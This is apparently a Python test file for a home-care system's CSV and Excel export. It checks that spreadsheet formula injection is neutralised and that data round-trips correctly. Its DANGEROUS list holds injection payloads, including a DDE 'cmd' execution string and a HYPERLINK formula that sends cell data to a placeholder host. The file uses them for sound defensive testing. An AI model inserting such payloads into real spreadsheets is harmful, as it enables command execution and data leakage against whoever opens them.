"""Lists on their way out: nothing in them can run."""

import io
import zipfile
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from homecare.exchange import reading, writing
from homecare.exchange.writing import csv_bytes, csv_lines, guarded, unguarded, xlsx_bytes
from tests.exchange.files import naive

DANGEROUS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1", "－1",
    "＠SUM(A1)", "\N{NO-BREAK SPACE}=1", "\N{ZERO WIDTH SPACE}=1", "\ufeff=1", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/"&A1)', "'=1+1", "''=1", "a,=1+1", "a;=1+1", "a\t=1+1", "a\n=1+1",
    "a, =1+1", "a|@x", 'a",=1',
]  # fmt: skip
SAFE = [
    "Elsa",
    "O'Brien",
    "'t Hooft",
    "1-3",
    "a=b",
    "x@y.example",
    "070-174 06 05",
    "Våning -1",
    "",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_could_run_gets_an_apostrophe_in_csv(text):
    assert "'" in guarded(text)
    assert guarded(text) != text
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", SAFE)
def test_other_text_is_left_as_it_is(text):
    assert guarded(text) == text
    assert unguarded(text) == text


@given(st.text(alphabet="=+-@＝'\t\r\n ,;|a\u200b\"", max_size=12))
def test_no_part_of_a_guarded_text_begins_a_formula(text):
    safe = guarded(text)

    assert unguarded(safe) == text
    for separator in ",;|\t\r\n":
        for part in safe.split(separator):
            assert not part.strip(" \t\r\n\u200b").startswith(tuple("=+-@＝"))


def test_csv_is_what_a_swedish_excel_opens():
    content = csv_bytes(["Namn", "Antal", "Dag"], [["Åsa; Öberg", 2, date(2026, 11, 24)]])

    assert content == (
        b"\xef\xbb\xbf" + '"Namn";"Antal";"Dag"\r\n"Åsa; Öberg";"2";"2026-11-24"\r\n'.encode()
    )


def test_values_are_written_as_people_read_them():
    moment = datetime(2026, 11, 24, 8, 30, tzinfo=UTC)

    content = csv_bytes(["a"], [[None], [True], [False], [-1], [1.5], [moment], ["-1"]])

    assert content.decode("utf-8-sig").split() == [
        '"a"', '""', '"Ja"', '"Nej"', '"-1"', '"1,5"', '"2026-11-24', '09:30"', "\"'-1\"",
    ]  # fmt: skip


def test_csv_is_written_row_by_row():
    asked = []

    def rows():
        for at in range(3):
            asked.append(at)
            yield [at]

    lines = csv_lines(["a"], rows())
    next(lines), next(lines), next(lines)

    assert asked == [0]


def sheet_of(content):
    return load_workbook(io.BytesIO(content)).active


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_could_run_is_text_in_excel(text):
    content = xlsx_bytes(["Namn"], [[text]])
    cell = sheet_of(content)["A2"]

    assert cell.data_type == "s"
    assert cell.value == text.replace("\r", "\n")  # as XML keeps line breaks
    assert cell.quotePrefix
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        assert b"<f" not in package.read("xl/worksheets/sheet1.xml").replace(b"<family", b"")


def test_excel_cells_have_types():
    content = xlsx_bytes(
        ["Text", "Antal", "Dag", "Tid", "Ja", "Tomt", "Nummer"],
        [
            [
                "Åsa",
                -2,
                date(2026, 11, 24),
                datetime(2026, 11, 24, 8, 30, tzinfo=UTC),
                True,
                None,
                "0701740605",
            ]
        ],
        title="Läget: nu",
    )
    sheet = sheet_of(content)

    assert sheet.title == "Läget  nu"
    assert [cell.value for cell in sheet[2]] == [
        "Åsa", -2, naive(2026, 11, 24), naive(2026, 11, 24, 9, 30), "Ja", None, "0701740605",
    ]  # fmt: skip
    assert sheet["A1"].font.bold
    assert sheet.freeze_panes == "A2"
    assert sheet["G2"].number_format == "@"


def test_signs_that_excel_cannot_hold_are_left_out():
    assert sheet_of(xlsx_bytes(["a"], [["x\x00\x07y"]]))["A2"].value == "xy"


WORDS = st.text(
    st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff"),
    max_size=20,
)


def as_read(rows):
    return [[cell or None for cell in row.cells] for row in rows]


@given(st.lists(st.lists(WORDS, min_size=3, max_size=3), min_size=1, max_size=5))
def test_what_is_written_as_csv_is_read_back(rows):
    head = ["Personnummer", "Förnamn", "Efternamn"]
    rows = [["1", *row[1:]] for row in rows]

    table = reading.read(csv_bytes(head, rows), "a.csv")

    assert table.headers == head
    assert as_read(table.rows) == [[cell or None for cell in row] for row in rows]


@given(st.lists(st.lists(WORDS, min_size=3, max_size=3), min_size=1, max_size=3))
def test_what_is_written_as_xlsx_is_read_back(rows):
    head = ["Personnummer", "Förnamn", "Efternamn"]
    rows = [["1", *row[1:]] for row in rows]

    table = reading.read(xlsx_bytes(head, rows), "a.xlsx")

    assert table.headers == head
    assert as_read(table.rows) == [[cell or None for cell in row] for row in rows]


def test_a_long_list_is_written_to_a_file(tmp_path):
    place = tmp_path / "lista.xlsx"
    with place.open("wb") as file:
        writing.write_xlsx(file, ["a"], ([at] for at in range(2000)))

    assert len(reading.read(place.read_bytes(), "a.xlsx").rows) == 2000
